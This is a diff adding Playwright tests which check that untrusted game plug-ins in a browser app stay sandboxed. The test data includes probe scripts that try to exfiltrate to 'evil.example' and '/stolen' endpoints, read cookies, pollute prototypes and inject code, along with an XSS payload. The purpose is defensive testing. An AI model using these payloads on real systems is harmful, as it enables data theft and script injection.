@@ -1,0 +1,169 @@
+import type { PackedBox } from '@haven/table/boxes'
+import { expect, type Page, test } from '@playwright/test'
+import { honestBox, ITS_POSITION, lay, otherBox } from './foreign-box.ts'
+import { answers, byPointer, load, playOn, put, theEnd } from './player.ts'
+
+/** Boxes of strangers run sealed off: what they try harms nothing, and they are named. */
+
+/** A page with a game that was there before, and this box on the device. */
+async function visit(page: Page, box: PackedBox): Promise<void> {
+  await page.goto('/credits')
+  await lay(page, box)
+}
+
+const named = (page: Page, name: string) => page.getByRole('heading', { name: `“${name}” was put out` })
+
+/** What the server was asked for, and what left the browser for anywhere else. */
+function watch(page: Page): string[] {
+  const asked: string[] = []
+  page.context().on('request', (request) => {
+    const { pathname, host } = new URL(request.url())
+    if (/^data:/.test(request.url())) return
+    if (/evil/.test(request.url()) || /stolen/.test(pathname)) asked.push(`${host}${pathname}`)
+  })
+  return asked
+}
+
+test('an honest box is played to the end against a bot, and its game goes on after the page was loaded anew', async ({
+  page,
+}) => {
+  test.slow()
+  await visit(page, honestBox())
+  await load(page, ITS_POSITION, 'the heroes')
+  expect(await page.locator('iframe[sandbox="allow-scripts"]').count()).toBe(1)
+  expect(await playOn(page, 7, byPointer, 12)).toBe(12)
+  await page.reload()
+  await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
+  await playOn(page, 8)
+  await expect(theEnd(page)).toBeVisible({ timeout: 30_000 })
+})
+
+/** Before the box is made, and whenever its sin is looked at. */
+const first = (code: string) => (script: string) => `(kit) => { ${code}; return (${script})(kit) }`
+/** In a call of a rule: its dice are counted in every fight, and its clock in every view. */
+const inCall = (code: string) => (script: string) =>
+  `(kit) => { const box = (${script})(kit); const stories = box.stories.map((story) => ({ ...story, clock: { get levels() { ${code}; return 1 } } })); return { ...box, stories } }`
+
+const TRIES = `
+const out = []
+const attempt = (name, deed) => { try { const found = deed(); if (found !== undefined) out.push(name + ' ' + String(found)) } catch {} }
+const all = (0, function () { return this })() ?? globalThis
+attempt('indexedDB', () => typeof indexedDB === 'undefined' ? undefined : 'there')
+attempt('caches', () => typeof caches === 'undefined' ? undefined : 'there')
+attempt('navigator', () => typeof navigator === 'undefined' ? undefined : 'there')
+attempt('BroadcastChannel', () => new BroadcastChannel('haven-tables'))
+attempt('fetch', () => fetch('/stolen'))
+attempt('xhr', () => new XMLHttpRequest())
+attempt('socket', () => new WebSocket('wss://evil.example/'))
+attempt('source', () => new EventSource('/stolen'))
+attempt('rtc', () => new RTCPeerConnection())
+attempt('importScripts', () => importScripts('/stolen.js'))
+attempt('image', () => new Image())
+attempt('worker', () => new Worker('/stolen.js'))
+attempt('post', () => postMessage('x'))
+attempt('document', () => document.cookie)
+attempt('time', () => new Date())
+attempt('performance', () => performance.now())
+attempt('chance', () => Math.random())
+attempt('crypto', () => crypto)
+attempt('timer', () => setTimeout(() => 0, 0))
+attempt('here', () => Intl.DateTimeFormat().format())
+attempt('eval', () => (0, eval)('1'))
+attempt('function', () => Function('return 1')())
+attempt('constructor', () => (() => 1).constructor('return 1')())
+attempt('async', () => (async () => 1).constructor('return 1')())
+attempt('global', () => { globalThis.fetch = 1; return globalThis.fetch })
+attempt('this', () => typeof all.postMessage === 'undefined' ? undefined : 'there')
+attempt('prototype', () => { Array.prototype.map = 1; return 'patched' })
+attempt('object', () => { Object.prototype.x = 1; return 'patched' })
+attempt('json', () => { JSON.stringify = 1; return 'patched' })
+attempt('promise', () => { Promise.prototype.then = 1; return 'patched' })
+attempt('iterator', () => { [][Symbol.iterator]().__proto__.next = 1; return 'patched' })
+attempt('error', () => { Error.prepareStackTrace = 1; return 'patched' })
+throw new Error('gained: ' + (out.join(', ') || 'nothing'))
+`
+
+test('what it tries to reach is not there: storage, network, time, chance, other code', async ({ page }) => {
+  const asked = watch(page)
+  await visit(page, otherBox('Burglar', first(TRIES)))
+  await put(page, ITS_POSITION, 'the heroes')
+  await expect(named(page, 'Burglar')).toBeVisible()
+  await page.getByText('What the program says').click()
+  await expect(page.locator('pre')).toHaveText(/gained: nothing/)
+  expect(asked).toEqual([])
+})
+
+test('with the worker unlocked the frame alone keeps storage and network away', async ({ page }) => {
+  const asked = watch(page)
+  // What would be if our own part let everything stand.
+  await page.route('**/assets/cell-*.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `globalThis.havenCell = () => {
+        const tell = []
+        const note = (name) => [(value) => tell.push(name + ' ' + value), () => tell.push(name + ' no')]
+        const attempt = async (name, deed) => { try { await deed().then(...note(name)) } catch { tell.push(name + ' no') } }
+        addEventListener('message', async ({ ports: [port] }) => {
+          await attempt('fetch', () => fetch('${new URL('/', 'http://x').pathname}stolen'))
+          await attempt('far', () => fetch('https://evil.example/', { mode: 'no-cors' }))
+          await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('haven-tables'); r.onsuccess = () => resolve('open'); r.onerror = reject }))
+          await attempt('caches', () => caches.keys())
+          await attempt('files', () => navigator.storage.getDirectory())
+          await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('wss://evil.example/'); s.onopen = resolve; s.onerror = reject }))
+          await attempt('script', async () => importScripts('https://evil.example/x.js'))
+          await attempt('module', () => import('https://evil.example/x.js'))
+          new BroadcastChannel('haven-tables').postMessage({ id: 'stolen', version: 1 })
+          port.postMessage(JSON.stringify({ from: 'failed', message: 'gained: ' + tell.join(', ') }))
+        })
+      }`,
+    }),
+  )
+  await visit(
+    page,
+    otherBox('Burglar', (script) => script),
+  )
+  await page.evaluate(() => {
+    const channel = new BroadcastChannel('haven-tables')
+    channel.onmessage = ({ data }) => document.documentElement.setAttribute('data-heard', JSON.stringify(data))
+  })
+  await put(page, ITS_POSITION, 'the heroes')
+  await expect(named(page, 'Burglar')).toHaveCount(0)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/put out/, { timeout: 20_000 })
+  await page.getByText('What the program says').click()
+  await expect(page.locator('pre')).toHaveText(
+    'gained: fetch no, far no, indexedDB no, caches no, files no, socket no, script no, module no',
+  )
+  expect(asked).toEqual([])
+  expect(await page.locator('html').getAttribute('data-heard')).toBeNull()
+})
+
+const BREAKS: readonly (readonly [name: string, why: RegExp, make: (script: string) => string])[] = [
+  ['Thrower', /broke a rule/, first('throw { toString() { for (;;); } }')],
+  ['No Script', /broke a rule/, () => '(kit) => {'],
+  ['Breakout', /broke a rule/, () => '0); } function Object() {} (() => { (0'],
+  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "night-shift", version: "9" })'],
+  ['Patched', /broke a rule/, first('"use strict"; Array.prototype.push = () => 0')],
+  ['Endless', /not answered/, first('for (;;);')],
+  ['Endless Rule', /not answered/, inCall('for (;;);')],
+  ['Endless Promise', /not answered/, first('const again = () => Promise.resolve().then(again); again()')],
+  ['Throwing Rule', /broke a rule/, inCall('throw new Error("no")')],
+  ['Nonsense', /makes no sense/, inCall('return 1e9')],
+  ['Words for Numbers', /makes no sense/, inCall('return "<img src=x onerror=alert(1)>"')],
+]
+
+for (const [name, why, make] of BREAKS) {
+  test(`a box that breaks is named, and what was there stays: ${name}`, async ({ page }) => {
+    await page.goto('/?speed=instant')
+    await page.getByRole('button', { name: 'Play now' }).click()
+    await expect(answers(page).first()).toBeVisible()
+    const before = new URL(page.url()).pathname
+    await visit(page, otherBox(name, make))
+    await put(page, ITS_POSITION, 'the heroes')
+    await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
+    await expect(page.getByText(why)).toBeVisible()
+    await expect(page.locator('iframe')).toHaveCount(0)
+    // Another game goes on as if nothing had been.
+    await page.goto(`${before}?speed=instant`)
+    await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
+  })
+}
